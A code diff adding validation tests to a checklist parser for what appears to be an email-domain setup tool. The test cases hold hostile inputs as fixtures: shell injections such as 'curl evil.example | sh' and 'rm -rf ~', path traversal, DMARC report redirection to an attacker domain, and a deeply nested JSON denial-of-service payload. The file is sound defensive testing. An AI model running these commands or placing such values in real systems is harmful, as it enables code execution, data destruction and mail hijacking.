@@ -5,7 +5,11 @@ import {
   withIntent,
   withReceipt,
 } from '../../src/core/checklist.ts';
+import { CHOICES } from '../../src/core/checklist-choices.ts';
 import { parseChecklist } from '../../src/core/checklist-parse.ts';
+import type { Input } from '../../src/steps/input.ts';
+import { makeSmtpCredsInputs } from '../../src/steps/make-smtp-creds/inputs.ts';
+import { verifyDomainInputs } from '../../src/steps/verify-domain/inputs.ts';
 
 const at = '2026-11-22T10:00:00.000Z';
 const full: Checklist = {
@@ -80,8 +84,6 @@ test.each<[path: string, value: unknown]>([
   ['choices', null],
   ['choices.smtpUser', 1],
   ['choices.unknown', {}],
-  ['choices.dns', 'bind'],
-  ['choices.dmarc', 'maybe'],
   ['steps', undefined],
   ['steps.verify-domain', 'done'],
   ['steps.verify-domain.receipts', {}],
@@ -141,4 +143,87 @@ test('refuses a newer version whatever else it holds', () => {
       message: expect.stringContaining('version 2'),
     }),
   );
+});
+
+/** What somebody who can edit the file, in a pull request, would put where the flags refuse it. */
+test.each<[path: string, value: string]>([
+  ['domain', 'acme.example/../x'],
+  ['domain', 'acme.example;rm -rf ~'],
+  ['domain', '127.0.0.1'],
+  ['region', 'us-east-1.evil.example/'],
+  ['region', 'x'],
+  ['account', '1234'],
+  ['account', '123456789012:user/*'],
+  ['choices.dns', 'bind'],
+  ['choices.dmarc', 'none; rua=mailto:x@evil.example'],
+  ['choices.onMxFailure', 'REJECT'],
+  ['choices.dkimKeyLength', '512'],
+  ['choices.senderScope', '*'],
+  ['choices.sendsBy', ''],
+  ['choices.senders', '*'],
+  ['choices.senders', '*@*'],
+  ['choices.senders', '*@acme.example,*@evil.example'],
+  ['choices.dmarcRua', 'postmaster@acme.example; p=none'],
+  ['choices.dmarcRua', 'postmaster@acme.example,mailto:x@evil.example'],
+  ['choices.smtpUser', 'x; curl evil.example | sh'],
+  ['choices.smtpUser', '$(id)'],
+  ['choices.smtpUser', ''],
+  ['choices.mailFrom', 'mail.acme.example\nevil.example'],
+  ['choices.mailFrom', 'mail'],
+  ['choices.configurationSet', 'set/*'],
+  ['choices.configurationSet', '../events'],
+  ['choices.hostedZoneId', 'Z1/../../2013-04-01/hostedzone/Z2'],
+  ['choices.hostedZoneId', ''],
+])('%s %j is refused as the flag refuses it', (path, value) => {
+  expect(refusal(set(path, value))).toThrow(
+    expect.objectContaining({
+      code: 'checklist/bad-value',
+      exitCode: 2,
+      message: expect.stringContaining(`${path}: `),
+      fix: expect.any(String),
+    }),
+  );
+});
+
+test('what the flags would normalise is read in that form', () => {
+  const content = parseChecklist(
+    JSON.stringify({
+      ...emptyChecklist('lineage'),
+      domain: 'ACME.example',
+      account: '1234-5678-9012',
+      choices: { hostedZoneId: '/hostedzone/Z1', senders: '*@ACME.example', later: '$(kept)' },
+    }),
+  );
+  expect(content).toMatchObject({
+    domain: 'acme.example',
+    account: '123456789012',
+    choices: { hostedZoneId: 'Z1', senders: '*@acme.example', later: '$(kept)' },
+  });
+});
+
+test.each(['[', '{"a":'])('200,000 levels of %s are refused, and walked by nobody', (open) => {
+  const close = open === '[' ? ']' : '}';
+  const deep = `${open.repeat(200_000)}1${close.repeat(200_000)}`;
+  const content = JSON.stringify(emptyChecklist('lineage')).replace(
+    '"last":null',
+    `"last":{"x":${deep}}`,
+  );
+  expect(() => parseChecklist(content)).toThrow(
+    expect.objectContaining({ code: 'checklist/bad-value', exitCode: 2 }),
+  );
+});
+
+test('brackets within a text are no levels', () => {
+  const text = JSON.stringify({ ...emptyChecklist('lineage'), note: '[{"\\'.repeat(1000) });
+  expect(parseChecklist(text)).toMatchObject({ domain: null });
+});
+
+test('a flag that is kept as a choice is checked by the rule of the file', () => {
+  const inputs: readonly Input[] = [...verifyDomainInputs, ...makeSmtpCredsInputs];
+  const kept = inputs.filter(({ choice, key }) => choice !== undefined && key !== 'mailFrom');
+  expect(kept).toHaveLength(Object.keys(CHOICES).length - 1);
+  for (const { choice, parse, values } of kept) {
+    const rule = CHOICES[choice ?? 'dns'];
+    expect({ parse, values }).toEqual({ parse: undefined, values: undefined, ...rule });
+  }
 });
